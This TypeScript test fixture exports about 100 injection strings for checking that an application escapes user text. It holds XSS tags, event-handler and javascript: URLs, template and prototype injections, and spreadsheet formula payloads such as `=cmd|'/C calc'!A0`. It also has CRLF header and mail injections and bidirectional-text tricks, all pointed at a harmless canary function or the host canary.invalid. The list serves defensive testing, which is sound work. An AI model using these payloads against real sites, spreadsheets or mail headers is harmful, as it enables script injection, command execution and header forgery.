/**
 * 100 texts that harm where a text is not shown as text. Most call `canary()`, load from CANARY_HOST or add the element
 * `x-canary` where they are interpreted; the others break lines, text direction, spreadsheets or encodings.
 */

export const CANARY_HOST = 'canary.invalid'

const run = 'canary(1)'
const host = `//${CANARY_HOST}/x`

const html = [
  `<x-canary>`,
  `<b><x-canary>bold`,
  `</title><x-canary>`,
  `</textarea><x-canary>`,
  `</option></select><x-canary>`,
  `--><x-canary><!--`,
  `]]><x-canary>`,
  `"><x-canary>`,
  `'><x-canary>`,
  `\`><x-canary>`,
  `&lt;x-canary&gt;`,
  `&#60;x-canary&#62;`,
  `%3Cx-canary%3E`,
  `\\u003cx-canary\\u003e`,
  `\\x3cx-canary\\x3e`,
  `＜x-canary＞`,
  `<form action=${host}><x-canary>`,
  `<base href=${host}>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<link rel=stylesheet href=${host}>`,
]
const scripts = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<SCRIPT SRC=${host}></SCRIPT>`,
  `<scr<script>ipt>${run}</script>`,
  `<script\u000b>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<style>@import '${host}'</style>`,
  `<style>*{background:url(${host})}</style>`,
  `<iframe src="javascript:${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data="javascript:${run}">`,
  `<embed src=${host}>`,
  `";${run};"`,
  `';${run};'`,
  `\u2028${run}\u2029`,
  `\${${run}}`,
  `</script><x-canary><script>self.__next_f.push([1,"`,
]
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `x" style="position:fixed;inset:0" onclick="${run}`,
  `<a href=x onclick=${run}>open</a>`,
  `<div style="background:url(${host})">`,
]
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript:${run}//https://example.com`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHgtY2FuYXJ5Pg==`,
  `vbscript:${run}`,
  `//${CANARY_HOST}/`,
  `https://user@${CANARY_HOST}/"><x-canary>`,
]
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `{count, plural, other {#}}`,
  `{name}`,
  `{`,
  `<rich>x</rich>`,
  `__proto__`,
  `[object Object]`,
  `%s%n%d`,
  `$&$1$\``,
]
const markdown = [
  `[x](javascript:${run})`,
  `![x](https:${host})`,
  `<https:${host}>`,
  `# heading\n\n- [ ] item`,
  `| a | b |\n|---|---|`,
]
const formulas = [
  `=HYPERLINK("https:${host}","x")`,
  `=cmd|'/C calc'!A0`,
  `+1+cmd|'/C calc'!A0`,
  `-2+3+cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `",=1+1,"`,
]
const lines = [
  `x\r\nBcc: everybody@${CANARY_HOST}`,
  `x\nSet-Cookie: canary=1`,
  `x\r\n\r\n<x-canary>`,
  `x\u0085Location: ${host}`,
  `END:VEVENT\r\nBEGIN:VEVENT`,
]
const otherTexts = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><x-canary></mtext></math>`,
  `\u202egnp.exe\u202c`,
  `\u2066\u2067\u200f${'א'.repeat(9)}`,
  `${'W'.repeat(300)}`,
  `${'汉'.repeat(200)}`,
  `Z${'\u0301\u0316'.repeat(60)}`,
]

/** PostgreSQL cannot store these; a provider's JSON can contain them. */
export const unstorable = [`a\u0000b<x-canary>`, `a\ud800b`, `\udc00`]

/** What PostgreSQL can store. */
export const payloads: readonly string[] = [
  ...html,
  ...scripts,
  ...handlers,
  ...addresses,
  ...templates,
  ...markdown,
  ...formulas,
  ...lines,
  ...otherTexts,
]

/** At most 40 characters: `payload-world.ts` appends eight for a merchant order number, which has at most 50. */
export const shortPayloads: readonly string[] = payloads.filter(
  (payload) => payload.length <= 40 && payload === payload.trim(),
)
